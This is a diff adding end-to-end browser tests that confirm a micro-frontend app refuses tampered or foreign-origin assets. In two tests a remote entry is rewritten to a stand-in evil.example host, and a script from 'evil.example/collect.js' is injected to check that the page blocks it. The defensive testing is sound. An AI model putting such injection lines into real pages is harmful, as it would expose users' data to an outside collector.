@@ -1,0 +1,142 @@
+/// <reference lib="dom" />
+import type { Page, Request } from 'playwright-core';
+import { expect } from 'vitest';
+import { test } from '../browser/journey.ts';
+import { tamperWith } from '../network/tamper.ts';
+import { beSignedIn, demoRecruiter, profileButton } from '../steps/account.ts';
+import { isMarked, markPage } from '../steps/remotes.ts';
+
+const refusal = 'Plans is not what was released, so it was not started.';
+
+test.for([
+  ['entry', '**/assets/mfe-billing/*/remoteEntry.js*'],
+  ['chunks', /\/assets\/mfe-billing\/[^/]+\/\d+\.[0-9a-f]+\.js/],
+  ['style sheets', '**/assets/mfe-billing/*/*.css*'],
+] as const)(
+  '[SH-08] a remote whose %s were changed on the way is refused in its place and reported, and Retry works once they are whole',
+  async ([, files], { page }) => {
+    await beSignedIn(page, demoRecruiter);
+    const told = tellingsOf(page);
+    const letBe = await tamperWith(page, files);
+
+    await page.goto('/plans');
+    await page.getByRole('heading', { level: 1, name: refusal }).waitFor();
+    await profileButton(page, demoRecruiter.username).waitFor();
+    await expect
+      .poll(() => told.filter(isSign('tampered')), { timeout: 60_000 })
+      .toMatchObject([
+        {
+          remote: 'mfe_billing',
+          team: 'Billing',
+          detail: expect.stringMatching(/ is not what was released\.$/),
+        },
+      ]);
+
+    await markPage(page);
+    await letBe();
+    await page.getByRole('main').getByRole('button', { name: 'Retry' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Plans', exact: true }).waitFor();
+    expect(await isMarked(page)).toBe(true);
+  },
+);
+
+test('[SH-08] a chunk of the shell that was changed is the shell’s fault, not that of the remote which needs it', async ({
+  page,
+}) => {
+  await beSignedIn(page, demoRecruiter);
+  const told = tellingsOf(page);
+  const letBe = await tamperWith(page, '**/assets/shell/*/shared-*.js*');
+
+  await page.goto('/plans');
+  await page.getByRole('heading', { level: 1, name: 'A part of Plans could not be loaded.' }).waitFor();
+  await expect
+    .poll(() => told.filter(isSign('tampered')), { timeout: 60_000 })
+    .toMatchObject([{ remote: 'shell' }]);
+
+  await letBe();
+  await page.getByRole('main').getByRole('button', { name: 'Retry' }).click();
+  await page.getByRole('heading', { level: 1, name: 'Plans', exact: true }).waitFor();
+});
+
+test.for([
+  ['script', '**/assets/shell/*/main.*.js'],
+  ['style sheet', '**/assets/shell/*/main.*.css'],
+] as const)(
+  '[SH-08] a changed first %s of the shell is refused: the page itself says so and reports it',
+  async ([, files], { page }) => {
+    const told = tellingsOf(page);
+    const letBe = await tamperWith(page, files);
+
+    await page.goto('/login', { waitUntil: 'commit' });
+    const alert = page.getByRole('alert').filter({ hasText: 'not as it was released, and was not used' });
+    await alert.waitFor();
+    await expect
+      .poll(() => told.filter(isSign('not_started')))
+      .toMatchObject([{ remote: 'shell', team: 'Shell' }]);
+
+    await letBe();
+    await alert.getByRole('link', { name: 'Load the page again' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Login' }).waitFor();
+    await expect.poll(() => alert.count()).toBe(0);
+  },
+);
+
+test('a remote on an origin that is not allowed is refused with a sentence, and nothing is asked there', async ({
+  page,
+}) => {
+  await beSignedIn(page, demoRecruiter);
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await page.route('**/plans', async (route) => {
+    const reply = await route.fetch();
+    const html = (await reply.text()).replace(
+      /"entry":"\/assets\/mfe-billing/,
+      '"entry":"https://evil.example/assets/mfe-billing',
+    );
+    await route.fulfill({ response: reply, body: html });
+  });
+
+  await page.goto('/plans');
+
+  await page
+    .getByRole('heading', { name: 'Plans comes from an address that this installation does not allow.' })
+    .waitFor();
+  expect(asked.filter((address) => address.includes('evil.example'))).toEqual([]);
+});
+
+test('a script from anywhere else is refused by the policy of the page, and reported', async ({ page }) => {
+  await beSignedIn(page, demoRecruiter);
+  const told = tellingsOf(page);
+  await page.goto('/plans');
+  await page.getByRole('heading', { level: 1, name: 'Plans', exact: true }).waitFor();
+
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/collect.js?user=7';
+    document.head.append(script);
+  });
+
+  await expect
+    .poll(() => told.filter(isSign('policy')), { timeout: 60_000 })
+    .toMatchObject([{ detail: 'script-src-elem refused evil.example.' }]);
+});
+
+interface Telling {
+  readonly kind: string;
+  readonly sign?: string;
+}
+
+/** What a page tells the edge of itself, as it goes on. */
+function tellingsOf(page: Page): Telling[] {
+  const told: Telling[] = [];
+  page.on('request', (request: Request) => {
+    if (!request.url().endsWith('/telemetry')) return;
+    told.push(...(JSON.parse(request.postData() ?? '{"events":[]}') as { events: Telling[] }).events);
+  });
+  return told;
+}
+
+const isSign =
+  (name: string) =>
+  ({ kind, sign }: Telling): boolean =>
+    kind === 'sign' && sign === name;
